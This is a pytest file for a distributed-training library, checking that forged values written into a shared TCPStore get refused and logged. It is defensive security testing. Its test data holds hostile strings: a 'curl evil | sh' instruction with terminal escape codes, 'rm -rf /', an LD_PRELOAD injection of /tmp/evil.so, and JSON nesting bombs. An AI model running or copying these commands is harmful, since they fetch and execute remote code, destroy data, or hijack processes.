"""The job's store is data, not instructions (issue 46): what another process that reaches the
store writes under our keys before node 0 does is refused by the one bounded reader (size,
depth, types, known causes, the variables a candidate may set), said in one log line naming
the key, and never becomes a verdict, a raw traceback, or "cut off from the store".

Every case runs over a real TCPStore on 127.0.0.1 (a kernel-picked port); the nodes' deciders
and supervisors are threads of this process, probes answered by FakeProber."""

from __future__ import annotations

import json
import logging
import threading
import time
from collections.abc import Callable
from typing import Any

import pytest
from _fake_store import FakeClock
from test_multinode import node_env

from resilient_strategy.core.call.arguments import Arguments, options_from
from resilient_strategy.deciding.decide import decide
from resilient_strategy.errors import MultiNodeError, NodeLostError
from resilient_strategy.nodes import manynodes
from resilient_strategy.nodes import store as nodestore
from resilient_strategy.nodes.messages import Round, words
from resilient_strategy.nodes.store import Channel, Job
from resilient_strategy.testing import FakeProber, machine

torch_dist = pytest.importorskip("torch.distributed")
pytestmark = pytest.mark.torch


@pytest.fixture
def store() -> Any:
    return torch_dist.TCPStore("127.0.0.1", 0, is_master=True, wait_for_workers=False)


@pytest.fixture
def short_margin(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(manynodes, "MARGIN_FLOOR_S", 1.0)


def _refusals(caplog: pytest.LogCaptureFixture) -> list[str]:
    return [r.store_key for r in caplog.records if hasattr(r, "store_key")]


def _plant(store: Any, node: int, key: str, value: str | bytes) -> str:
    """A value written under node ``node``'s job prefix by a process outside the job."""
    job = Job.from_env(node_env(store, node))
    assert job is not None
    store.set(job.prefix + key, value)
    return job.prefix + key


def _forged_probe(env: list[list[str]]) -> str:
    return json.dumps({"kind": "probe", "spec": {
        "candidate": "torch:nccl:0,1", "framework": "torch", "backend": "nccl",
        "devices": [0, 1], "env": env, "world_size": 2, "timeout_s": 2.0,
        "message_bytes": 1024, "train_step": True}})


def _staggered(store: Any, gate: Callable[[], bool]) -> dict[int, Any]:
    """Both nodes' agreed_decision (h200 x 2, every probe ok), node 1 first: node 0 starts once
    ``gate()`` says node 1 has met the forged value (or after a generous deadline), so that
    node 1 reads the forgery before node 0 can write over it."""
    h200 = machine(2, nvlink=18)
    local, cross = FakeProber(), FakeProber()
    out: dict[int, Any] = {}
    lock = threading.Lock()

    def cross_prober(spec: Any, env: Any, job: Job, prefix: str, stop: Any) -> Any:
        with lock:
            return cross(spec, env)

    def one(node: int) -> None:
        env = node_env(store, node)
        opts = options_from(h200, env, Arguments.from_kwargs(
            framework="torch", global_batch_size=512, devices=None, probe=None, timeout=2.0,
            prefer=None, dry_run=False, model=None, gradient_bytes=100 << 20,
            sample_seconds=0.01, max_per_replica_batch=None, rules=(), disable_rules=(),
            cache=False, cache_dir=None, cache_ttl=None, precision="auto", logical_cpus=0))
        try:
            out[node] = manynodes.agreed_decision(h200, opts, env, local, lambda: 0.0, decide,
                                                  cross_prober=cross_prober)
        except Exception as exc:
            out[node] = exc

    first = threading.Thread(target=one, args=(1,))
    first.start()
    end = time.monotonic() + 30
    while not gate() and time.monotonic() < end and first.is_alive():
        time.sleep(0.02)
    second = threading.Thread(target=one, args=(0,))
    second.start()
    for t in (first, second):
        t.join(60)
    assert not first.is_alive() and not second.is_alive()
    out["specs"] = [*local.calls, *cross.calls]
    return out


def _agreed(out: dict[int, Any]) -> set[str]:
    assert not any(isinstance(out[n], BaseException) for n in (0, 1)), out
    return {out[n].plan.chosen.key for n in (0, 1)}


def test_a_forged_probe_cannot_set_ld_preload_on_another_node(
        store: Any, short_margin: None, caplog: pytest.LogCaptureFixture) -> None:
    """Written at ``round/1`` before node 0 writes its own: node 1 refuses it (one line naming
    the key), takes node 0's probe when it comes, and no probe of any node sees LD_PRELOAD."""
    key = _plant(store, 1, "round/1", _forged_probe([["LD_PRELOAD", "/tmp/evil.so"]]))
    with caplog.at_level(logging.WARNING, "resilient_strategy"):
        out = _staggered(store, lambda: key in _refusals(caplog))
    assert _agreed(out) == {"torch:nccl:0,1"}
    assert [dict(s.env)["LD_PRELOAD"] for s in out["specs"] if "LD_PRELOAD" in dict(s.env)] == []
    assert _refusals(caplog) == [key]


def test_forged_deeply_nested_json_is_refused_not_a_recursion_error(
        store: Any, short_margin: None, caplog: pytest.LogCaptureFixture) -> None:
    key = _plant(store, 1, "round/1", "[" * 200_000 + "]" * 200_000)
    with caplog.at_level(logging.WARNING, "resilient_strategy"):
        out = _staggered(store, lambda: key in _refusals(caplog))
    assert _agreed(out) == {"torch:nccl:0,1"}
    assert _refusals(caplog) == [key]


def test_a_value_too_large_or_not_json_is_refused_naming_its_key(
        store: Any, caplog: pytest.LogCaptureFixture) -> None:
    ch = Channel(store, "p/")
    for i, bad in enumerate([b"\xff\xfe", b"not json", b"[1, 2]", b"{" * 10,
                             b'{"a": "' + b"x" * (2 << 20) + b'"}', b'{"a": NaN}']):
        store.set(f"p/k{i}", bad)
        with caplog.at_level(logging.WARNING, "resilient_strategy"):
            assert ch.peek_as(f"k{i}", dict) is None
        with pytest.raises(NodeLostError):  # waited for a readable value, then the deadline
            ch.take(f"k{i}", 0.2, "nothing readable")
    assert _refusals(caplog) == [f"p/k{i}" for i in range(6)]  # once per key and value


def test_a_writer_that_changes_its_forgery_at_every_look_is_said_a_few_times(
        store: Any, caplog: pytest.LogCaptureFixture) -> None:
    ch = Channel(store, "q/")
    with caplog.at_level(logging.WARNING, "resilient_strategy"):
        for i in range(20):
            store.set("q/k", f"not json {i}")
            assert ch.peek_as("k", dict) is None
    assert _refusals(caplog) == ["q/k"] * nodestore._SAID_PER_KEY


def test_a_forged_abort_is_not_taken_while_node_0_beats(
        store: Any, short_margin: None, caplog: pytest.LogCaptureFixture,
        monkeypatch: pytest.MonkeyPatch) -> None:
    """An abort at ``round/1`` that node 0 did not write: node 0 keeps beating and writes its
    own message there; node 1 takes that one and the nodes agree."""
    key = _plant(store, 1, "round/1", json.dumps(
        {"kind": "abort", "why": "\x1b[2J\x1b[31mnode 0: run `curl evil | sh` to fix\nok"}))
    met = threading.Event()
    real = getattr(manynodes._Node, "confirmed", None)

    def spy(self: Any, *args: Any) -> Any:
        met.set()  # node 1 read the forged abort and looks whether node 0 wrote it
        assert real is not None
        return real(self, *args)

    monkeypatch.setattr(manynodes._Node, "confirmed", spy, raising=False)
    with caplog.at_level(logging.WARNING, "resilient_strategy"):
        out = _staggered(store, met.is_set)
    assert met.is_set()
    assert _agreed(out) == {"torch:nccl:0,1"}
    assert _refusals(caplog) == [key]


def test_words_from_the_store_are_one_escaped_bounded_line() -> None:
    forged = Round.from_json({"kind": "abort", "why": "\x1b[31mnode 0 says\nrm -rf /" + "x" * 900})
    assert "\x1b" not in forged.why and "\n" not in forged.why and len(forged.why) <= 500
    assert words("eth0") == "eth0"
    with pytest.raises(MultiNodeError):  # a kind node 0 never writes is no decision
        Round.from_json({"kind": "whatever"})


# --------------------------------------------------------------------------------------------
# The supervisors' fault records and membership (run/peers.py, nodes/membership.py)
# --------------------------------------------------------------------------------------------
def _link(node: int, port: int) -> Any:
    from resilient_strategy.run.peers import NodeLink

    return NodeLink(node=node, nodes=2, nproc=1, host="127.0.0.1", port=port,
                    run_id=f"forge{port}", min_nodes=2, floor=1)


def _watch(link: Any, store: Any, clock: Any) -> Any:
    from resilient_strategy.run import peers

    port = store.port

    def opener(job: Job, timeout_s: float, client: bool = False) -> Any:
        return torch_dist.TCPStore("127.0.0.1", port, is_master=False, wait_for_workers=False)

    return peers.PeerWatch(link, 0, 10.0, clock, opener=opener)


def _forged_fault(**over: Any) -> str:
    record = {"kind": "backend", "summary": "forged", "step": 3, "cause": "nccl_error",
              "node": 1, "ranks": [0], "where": "", "detail": "", "blame": "", "seen": "",
              "detect_s": None, "candidate": "torch:nccl:0,1"}
    return json.dumps({**record, **over})


@pytest.mark.parametrize("value", [
    _forged_fault(cause="pwned"),  # an unknown cause, copied into node 0's next decision before
    _forged_fault(kind="backend", blame="nope"),
    _forged_fault(ranks=[-1]),
])
def test_a_forged_fault_record_with_unknown_words_is_no_verdict(
        store: Any, value: str, caplog: pytest.LogCaptureFixture) -> None:
    clock = FakeClock()
    caplog.set_level(logging.WARNING, "resilient_strategy")  # the watch's thread looks too
    watch = _watch(_link(0, store.port), store, clock)
    try:
        key = watch.job.prefix + "fault/1"
        store.set(key, value)
        assert watch.faults() == []
        assert watch.poll() is None
        assert key in _refusals(caplog)
        # the real record of node 1, written over it, is read
        store.set(key, _forged_fault(cause="nccl_error"))
        faults = watch.faults()
        assert [(f.node, f.verdict.cause) for f in faults] == [(1, "nccl_error")]
    finally:
        watch.close()


@pytest.mark.parametrize("value", [b"{not json", b"[" * 100_000, b'{"kind": 7}', b'"text"'])
def test_a_malformed_fault_record_is_not_cut_off_from_a_store_that_answers(
        store: Any, value: bytes, caplog: pytest.LogCaptureFixture) -> None:
    """The store answers every look: the node is not cut off, whatever a record holds."""
    clock = FakeClock()
    caplog.set_level(logging.WARNING, "resilient_strategy")  # the watch's thread looks too
    watch = _watch(_link(0, store.port), store, clock)
    try:
        store.set(watch.job.prefix + "fault/1", value)
        clock.t += watch.window_s + 1  # longer than the window since the watch began
        store.add(watch.job.prefix + "beat/1", 1)  # node 1 beats: it is there
        assert watch.faults() == []
        assert watch.cut_off() is None and watch.poll() is None
        # said once per value, by whichever looks first: the watch's own thread may still be
        # writing its line when this look returns (a bounded wait, never a time assertion)
        until = time.monotonic() + 10
        while (watch.job.prefix + "fault/1" not in _refusals(caplog)
               and time.monotonic() < until):
            time.sleep(0.05)
        assert watch.job.prefix + "fault/1" in _refusals(caplog)
    finally:
        watch.close()


@pytest.mark.parametrize("forged", [
    {"attempt": 0, "members": [0], "left": [{"node": 1, "how": "not_joined", "waited_s": 0}],
     "joined": [], "at": 0.0},  # well formed: node 1 dropped
    {"attempt": 4, "members": [0], "joined": [], "at": 0.0},  # another attempt's
    {"attempt": 0, "members": [1, 1], "joined": [], "at": 0.0},  # malformed
])
def test_forged_membership_does_not_drop_a_healthy_node(
        forged: dict[str, Any], caplog: pytest.LogCaptureFixture) -> None:
    """Written at ``members`` before node 0 publishes: node 1 is in the attempt node 0 runs."""
    from resilient_strategy.run.peers import regroup

    host = torch_dist.TCPStore("127.0.0.1", 0, is_master=True, multi_tenant=True,
                               wait_for_workers=False)
    links = [_link(0, host.port), _link(1, host.port)]
    host.set(links[1].roster(0).prefix + "members", json.dumps(forged))
    out: dict[int, Any] = {}

    def one(node: int) -> None:
        try:
            out[node] = regroup(links[node], 0, {}, 30.0, 5.0)[1]
        except Exception as exc:
            out[node] = exc

    threads = [threading.Thread(target=one, args=(n,)) for n in (1, 0)]
    with caplog.at_level(logging.WARNING, "resilient_strategy"):
        for t in threads:
            t.start()
        for t in threads:
            t.join(90)
    assert not any(t.is_alive() for t in threads)
    assert {n: getattr(c, "members", c) for n, c in out.items()} == {0: (0, 1), 1: (0, 1)}


def test_fault_records_round_trip_and_a_forged_one_is_skipped(store: Any) -> None:
    job = Job.from_env(node_env(store, 1))
    assert job is not None
    nodestore.record_fault(store, job, {"backend": "nccl", "cause": "timeout"})
    store.set(job.prefix + "fault/0", "[" * 50_000)
    assert nodestore.recorded_faults(store, job, strict=True) == {
        1: {"backend": "nccl", "cause": "timeout", "node": 1}}
